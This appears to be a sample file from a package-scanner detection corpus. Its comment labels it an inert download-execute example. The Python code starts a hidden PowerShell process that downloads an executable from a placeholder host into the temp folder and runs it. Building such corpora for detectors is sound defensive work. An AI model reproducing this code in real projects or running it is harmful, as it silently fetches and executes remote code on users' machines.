# pkgguard corpus 305 (download-execute), modelled on [empirical]; inert, never run.
import subprocess

subprocess.Popen(
    [
        "powershell", "-NoProfile", "-Command",
        "(New-Object Net.WebClient).DownloadFile('https://cdn.example/u', \"$env:TEMP\\u.exe\"); Start-Process \"$env:TEMP\\u.exe\"",
    ],
    creationflags=0x08000000,
)
